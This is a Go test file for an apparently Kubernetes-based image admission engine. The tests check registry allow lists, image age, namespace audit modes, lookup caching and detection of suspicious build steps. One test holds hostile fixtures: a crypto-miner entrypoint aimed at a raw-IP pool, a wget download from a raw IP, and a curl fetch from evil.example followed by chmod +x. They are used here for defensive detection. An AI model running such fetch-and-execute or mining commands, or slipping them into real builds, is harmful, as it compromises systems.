package engine_test

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"

	"buildguard.dev/buildguard/engine"
	"buildguard.dev/buildguard/internal/clock/clocktest"
	"buildguard.dev/buildguard/internal/testregistry"
	"buildguard.dev/buildguard/policy"
	"buildguard.dev/buildguard/registry"
)

var now = time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC)

type labels map[string]map[string]string

func (l labels) Labels(_ context.Context, ns string) (map[string]string, error) {
	if ns == "gone" {
		return nil, errors.New("namespace not found")
	}
	return l[ns], nil
}

func newEngine(t *testing.T, allow ...string) *engine.Engine {
	t.Helper()
	p, err := policy.Compile(policy.Spec{Registries: policy.Registries{Allow: allow, Insecure: []string{"127.0.0.1:*"}}})
	if err != nil {
		t.Fatal(err)
	}
	clock := clocktest.New(now)
	return &engine.Engine{
		Policies:   engine.PolicyFunc(func() *policy.Policy { return p }),
		Resolver:   registry.New(registry.WithTransport(http.DefaultTransport), registry.WithClock(clock)),
		Clock:      clock,
		Namespaces: labels{"audited": {engine.ModeLabel: "audit"}},
	}
}

// TestUnapprovedRegistryNeverContacted: an image reference is attacker
// input; a registry outside the allow list sees no request at all.
func TestUnapprovedRegistryNeverContacted(t *testing.T) {
	good := testregistry.New(t)
	evil := testregistry.New(t)
	good.Push(t, "acme/shop:1", testregistry.Build(t, testregistry.Image{Created: now.Add(-time.Hour * 24)}))
	evil.Push(t, "acme/shop:1", testregistry.Build(t, testregistry.Image{Created: now.Add(-time.Hour * 24)}))
	evil.Reset()
	e := newEngine(t, good.Host+"/acme/*")
	spec := &corev1.PodSpec{Containers: []corev1.Container{
		{Name: "good", Image: good.Host + "/acme/shop:1"},
		{Name: "evil", Image: evil.Host + "/acme/shop:1"},
	}}
	v, err := e.Evaluate(t.Context(), engine.Workload{Namespace: "shop", Kind: "Pod", Name: "p", Spec: spec})
	if err != nil {
		t.Fatal(err)
	}
	if v.Allowed || v.Images[0].Outcome != policy.OutcomeAllow || v.Images[1].Findings[0].Rule != policy.RuleUnapprovedRegistry {
		t.Errorf("Evaluate = %+v, want the good image allowed and the evil one unapproved", v)
	}
	if n := evil.Count(); n != 0 {
		t.Errorf("the unapproved registry received %d requests (%q), want 0", n, evil.Requests())
	}
}

func TestNamespaceMode(t *testing.T) {
	reg := testregistry.New(t)
	reg.Push(t, "acme/fresh:1", testregistry.Build(t, testregistry.Image{Created: now.Add(-5 * time.Second)}))
	e := newEngine(t, reg.Host+"/acme/*")
	spec := &corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: reg.Host + "/acme/fresh:1"}}}
	for ns, want := range map[string]policy.Mode{"audited": policy.ModeAudit, "unknown": policy.ModeEnforce} {
		v, err := e.Evaluate(t.Context(), engine.Workload{Namespace: ns, Kind: "Pod", Spec: spec})
		if err != nil {
			t.Fatal(err)
		}
		if v.Mode != want || v.Outcome != policy.OutcomeDeny {
			t.Errorf("Evaluate in %s = mode %s outcome %s, want %s deny", ns, v.Mode, v.Outcome, want)
		}
	}
}

func TestSameImageLookedUpOnce(t *testing.T) {
	reg := testregistry.New(t)
	reg.Push(t, "acme/shop:1", testregistry.Build(t, testregistry.Image{Created: now.Add(-time.Hour * 24)}))
	reg.Reset()
	e := newEngine(t, reg.Host+"/acme/*")
	img := reg.Host + "/acme/shop:1"
	spec := &corev1.PodSpec{
		InitContainers: []corev1.Container{{Name: "init", Image: img}},
		Containers:     []corev1.Container{{Name: "a", Image: img}, {Name: "b", Image: img}},
	}
	if _, err := e.Evaluate(t.Context(), engine.Workload{Namespace: "shop", Kind: "Pod", Spec: spec}); err != nil {
		t.Fatal(err)
	}
	// ping, HEAD tag, GET manifest, GET config.
	if n := reg.Count(); n != 4 {
		t.Errorf("registry requests = %d (%q), want 4", n, reg.Requests())
	}
}

// TestZeroClock: an Engine without a Clock judges at the real time: an
// image built an hour ago (by the machine's clock) is old enough, one
// built a minute ago is not.
func TestZeroClock(t *testing.T) {
	reg := testregistry.New(t)
	wall := time.Now()
	reg.Push(t, "acme/old:1", testregistry.Build(t, testregistry.Image{Created: wall.Add(-time.Hour)}))
	reg.Push(t, "acme/new:1", testregistry.Build(t, testregistry.Image{Created: wall.Add(-time.Minute)}))
	p, err := policy.Compile(policy.Spec{Registries: policy.Registries{Allow: []string{reg.Host + "/acme/*"}, Insecure: []string{"127.0.0.1:*"}}})
	if err != nil {
		t.Fatal(err)
	}
	e := &engine.Engine{Policies: engine.PolicyFunc(func() *policy.Policy { return p }),
		Resolver: registry.New(registry.WithTransport(http.DefaultTransport))}
	for image, want := range map[string]policy.Outcome{"acme/old:1": policy.OutcomeAllow, "acme/new:1": policy.OutcomeDeny} {
		spec := &corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: reg.Host + "/" + image}}}
		v, err := e.Evaluate(t.Context(), engine.Workload{Namespace: "shop", Kind: "Pod", Spec: spec})
		if err != nil {
			t.Fatal(err)
		}
		if v.Outcome != want {
			t.Errorf("Evaluate(%s) with no Clock: outcome %q, want %q (%+v)", image, v.Outcome, want, v)
		}
	}
}

func TestContainers(t *testing.T) {
	spec := &corev1.PodSpec{
		InitContainers:      []corev1.Container{{Name: "i", Image: "a", VolumeMounts: []corev1.VolumeMount{{Name: "v", SubPath: "s"}}}},
		Containers:          []corev1.Container{{Name: "c", Image: "b", ImagePullPolicy: corev1.PullNever}},
		EphemeralContainers: []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "e", Image: "c"}}},
	}
	got := engine.Containers(spec)
	if len(got) != 3 || got[0].Kind != policy.KindInitContainer || got[0].Mounts[0].SubPath != "s" ||
		got[1].PullPolicy != "Never" || got[2].Kind != policy.KindEphemeralContainer {
		t.Errorf("Containers = %+v, want init, container, ephemeral in order", got)
	}
}

// TestNamespaceLabelsUnavailable: without a namespace's labels no
// selector can be trusted, so evaluation fails (and admission with it)
// rather than judging under no policy.
func TestNamespaceLabelsUnavailable(t *testing.T) {
	e := newEngine(t, "127.0.0.1:*/acme/*")
	_, err := e.Evaluate(t.Context(), engine.Workload{Namespace: "gone", Kind: "Pod",
		Spec: &corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "127.0.0.1:1/acme/x:1"}}}})
	if err == nil {
		t.Error("Evaluate with unreadable namespace labels succeeded, want an error")
	}
}

// TestBuildStepsSeeTheConfig: the engine hands the analysis the image's
// history and its config's Env, Entrypoint and Cmd, as read from the
// registry: a miner that only the run command shows, a URL that only the
// config's Env spells out, and a fetch-then-chmod across two steps are
// all found.
func TestBuildStepsSeeTheConfig(t *testing.T) {
	reg := testregistry.New(t)
	aged := now.Add(-30 * 24 * time.Hour)
	images := map[string]testregistry.Image{
		"miner": {Created: aged, Steps: []string{"RUN /bin/sh -c apk add --no-cache libuv # buildkit"},
			Entrypoint: []string{"/usr/local/bin/kswapd"}, Cmd: []string{"-o", "198.51.100.7:3333", "-u", "w"}},
		"env-url": {Created: aged, Steps: []string{`RUN /bin/sh -c wget -O /opt/a "$FEED" # buildkit`},
			Env: []string{"FEED=http://203.0.113.9/a"}},
		"two-steps": {Created: aged, Steps: []string{
			"/bin/sh -c #(nop) WORKDIR /opt", "/bin/sh -c curl -fsSLO https://evil.example/agent", "|1 V=1 /bin/sh -c chmod +x agent"}},
		"clean": {Created: aged, Steps: []string{"RUN /bin/sh -c apk add --no-cache ca-certificates # buildkit"},
			Env: []string{"PATH=/usr/bin:/bin"}, Cmd: []string{"/bin/sh"}},
	}
	for name, im := range images {
		reg.Push(t, "acme/"+name+":1", testregistry.Build(t, im))
	}
	e := newEngine(t, reg.Host+"/acme/*")
	for name, want := range map[string]string{
		"miner": "run command: crypto-miner from 198.51.100.7", "env-url": "step 0: raw-ip-download from 203.0.113.9",
		"two-steps": "step 2: chmod-fetched from evil.example", "clean": "",
	} {
		spec := &corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: reg.Host + "/acme/" + name + ":1"}}}
		v, err := e.Evaluate(t.Context(), engine.Workload{Namespace: "shop", Kind: "Pod", Spec: spec})
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, f := range v.Images[0].Findings {
			if f.Rule == policy.RuleSuspiciousBuildStep {
				got = append(got, f.Summary)
			}
		}
		if want == "" {
			if len(got) != 0 || !v.Allowed {
				t.Errorf("%s: Evaluate = allowed %v, findings %q, want allowed without build-step findings", name, v.Allowed, got)
			}
			continue
		}
		found := false
		for _, g := range got {
			found = found || g == want
		}
		if !found || v.Allowed {
			t.Errorf("%s: Evaluate = allowed %v, build-step findings %q, want denied with %q", name, v.Allowed, got, want)
		}
	}
}

// TestEachContainerItsImage: every container is judged with its own
// image's facts, however many containers share an image and however many
// distinct images there are, cached or not.
func TestEachContainerItsImage(t *testing.T) {
	reg := testregistry.New(t)
	var digests []string
	for i := range 12 {
		d := reg.Push(t, fmt.Sprintf("acme/app-%d:v1", i), testregistry.Build(t, testregistry.Image{Created: now.Add(-time.Duration(24+i) * time.Hour)}))
		digests = append(digests, d.String())
	}
	e := newEngine(t, reg.Host+"/acme/*")
	for _, n := range []int{1, 3, 8, 9, 12} {
		// Containers i and i+n run the same image, in an order other than
		// the images'.
		spec := &corev1.PodSpec{InitContainers: []corev1.Container{{Name: "init", Image: fmt.Sprintf("%s/acme/app-%d:v1", reg.Host, n-1)}}}
		for i := range 2 * n {
			spec.Containers = append(spec.Containers, corev1.Container{Name: fmt.Sprint("c", i), Image: fmt.Sprintf("%s/acme/app-%d:v1", reg.Host, (i*5)%n)})
		}
		for _, pass := range []string{"first", "cached"} {
			v, err := e.Evaluate(t.Context(), engine.Workload{Namespace: "shop", Kind: "Pod", Spec: spec})
			if err != nil {
				t.Fatal(err)
			}
			if len(v.Images) != 2*n+1 {
				t.Fatalf("%d images, %s: %d verdicts, want %d", n, pass, len(v.Images), 2*n+1)
			}
			want := append([]string{digests[n-1]}, make([]string, 2*n)...)
			for i := range 2 * n {
				want[i+1] = digests[(i*5)%n]
			}
			for i, iv := range v.Images {
				if iv.Digest != want[i] || iv.Outcome != policy.OutcomeAllow {
					t.Errorf("%d images, %s: %s (%s) judged %s, outcome %s; want %s, allow", n, pass, iv.Container, iv.Image, iv.Digest, iv.Outcome, want[i])
				}
			}
		}
	}
}
